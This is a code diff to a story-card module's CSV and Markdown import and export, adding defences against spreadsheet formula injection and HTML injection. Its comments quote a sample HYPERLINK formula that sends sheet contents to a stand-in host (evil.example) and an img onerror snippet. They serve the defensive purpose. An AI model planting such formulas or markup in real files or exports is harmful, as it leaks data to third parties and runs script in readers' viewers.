@@ -11,8 +11,9 @@ import {
   type Priority,
   type StoryCardProps,
 } from './story-card.js';
-import { storyCardPropsValidator } from './story-card-schema.js';
+import { storyCardPropsValidator } from './story-card-validators.js';
 import { formatTotal, type PlanningModel } from './structure.js';
+import { stripControlCharacters } from '../text.js';
 
 /**
  * CSV import and export of story cards. Import recognises the columns of Jira and Linear
@@ -73,6 +74,8 @@ export interface SkippedRow {
 
 export interface CsvImport {
   cards: StoryCardProps[];
+  /** The file row of each card (same order as `cards`), for joining columns read elsewhere. */
+  cardRows: number[];
   skipped: SkippedRow[];
   /** Values that were adjusted to fit (an estimate rounded up to the scale, an unknown status). */
   warnings: SkippedRow[];
@@ -115,6 +118,7 @@ export function parseCardsCsv(text: string): CsvImport {
   }
 
   const cards: StoryCardProps[] = [];
+  const cardRows: number[] = [];
   const skipped: SkippedRow[] = [];
   const warnings: SkippedRow[] = [];
   rows.forEach((cells, i) => {
@@ -125,14 +129,15 @@ export function parseCardsCsv(text: string): CsvImport {
       skipped.push({ row, reason: `${cells.length} cells but the header has ${header.length}` });
       return;
     }
-    cells.forEach((raw, column) => {
-      const value = raw.trim();
+    cells.forEach((cell, column) => {
+      const raw = unescapeFormula(cell);
+      const value = stripControlCharacters(raw).trim();
       switch (fieldOf[column]) {
         case 'title':
           if (!card.title) card.title = value;
           break;
         case 'description':
-          card.description = raw.replace(/\r\n/g, '\n').trim();
+          card.description = stripControlCharacters(raw, { multiline: true }).trim();
           break;
         case 'estimate': {
           const { value: estimate, warning } = toEstimate(value);
@@ -183,8 +188,25 @@ export function parseCardsCsv(text: string): CsvImport {
       return;
     }
     cards.push(card);
+    cardRows.push(row);
   });
-  return { cards, skipped, warnings, columns };
+  return { cards, cardRows, skipped, warnings, columns };
+}
+
+/**
+ * Spreadsheet formula injection (OWASP "CSV Injection"): Excel, LibreOffice and Sheets run a
+ * cell that starts with =, +, - or @ (and, after a tab or CR, whatever follows) as a formula,
+ * so a card titled `=HYPERLINK("https://evil.example/?"&A1)` would leak the sheet to whoever
+ * opens a view link's export. Such cells are written with a leading apostrophe (and quoted),
+ * which spreadsheets show as text. A cell that already starts with apostrophes before one of
+ * those characters gets one more, so that import can remove exactly one and every value,
+ * "=tbd", "-1 day buffer" and "'=x" alike, comes back as it was exported.
+ */
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+
+/** The cell as it was before `cardsToCsv` neutralised it (one apostrophe less before a formula character). */
+function unescapeFormula(cell: string): string {
+  return FORMULA_START.test(cell) && cell.startsWith("'") ? cell.slice(1) : cell;
 }
 
 export const EXPORT_COLUMNS = ['Key', 'Title', 'Description', 'Estimate', 'Status', 'Assignee', 'Labels', 'Priority', 'Votes', 'Lane'] as const;
@@ -196,22 +218,29 @@ function laneNames(model: PlanningModel): Map<string, string> {
 /** Every card of the board, one row each, in the columns `parseCardsCsv` reads back. */
 export function cardsToCsv(model: PlanningModel): string {
   const lanes = laneNames(model);
+  const line = (text: string) => stripControlCharacters(text);
   const rows = model.cards.map(({ props, laneId }) => [
-    props.externalKey,
-    props.title,
-    props.description,
+    line(props.externalKey),
+    line(props.title),
+    stripControlCharacters(props.description, { multiline: true }),
     props.estimate === 'none' ? '' : props.estimate,
     STATUS_LABELS[props.status],
-    props.assignee,
-    props.labels.join(', '),
+    line(props.assignee),
+    line(props.labels.join(', ')),
     PRIORITY_LABELS[props.priority],
     String(props.votes),
-    laneId ? (lanes.get(laneId) ?? '') : '',
+    line(laneId ? (lanes.get(laneId) ?? '') : ''),
   ]);
-  return Papa.unparse({ fields: [...EXPORT_COLUMNS], data: rows }, { newline: '\n', escapeFormulae: false });
+  return Papa.unparse({ fields: [...EXPORT_COLUMNS], data: rows }, { newline: '\n', escapeFormulae: FORMULA_START });
 }
 
-const cell = (text: string) => text.replace(/\|/g, '\\|').replace(/\r?\n/g, ' ');
+const HTML_ENTITIES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;' };
+
+/**
+ * Text as one Markdown table cell or heading: no control characters or line breaks, pipes
+ * escaped, and raw HTML escaped (`<img src=x onerror=…>` shows as text in any renderer).
+ */
+const cell = (text: string) => stripControlCharacters(text).replace(/[&<>]/g, (c) => HTML_ENTITIES[c]!).replace(/\|/g, '\\|');
 
 /** The cards grouped by lane, as Markdown tables under a heading per lane with its total. */
 export function cardsToMarkdown(model: PlanningModel, boardTitle: string): string {
@@ -236,6 +265,10 @@ export function cardsToMarkdown(model: PlanningModel, boardTitle: string): strin
   }
   const total = model.cards.reduce((sum, card) => sum + estimatePoints(card.props.estimate), 0);
   out.push(`${model.cards.length} cards, ${total} points in all.`, '');
+  if (model.invalid.length > 0) {
+    const count = model.invalid.length;
+    out.push(`_${count} ${count === 1 ? 'record' : 'records'} of the board could not be read and ${count === 1 ? 'is' : 'are'} not listed._`, '');
+  }
   return out.join('\n');
 }
 
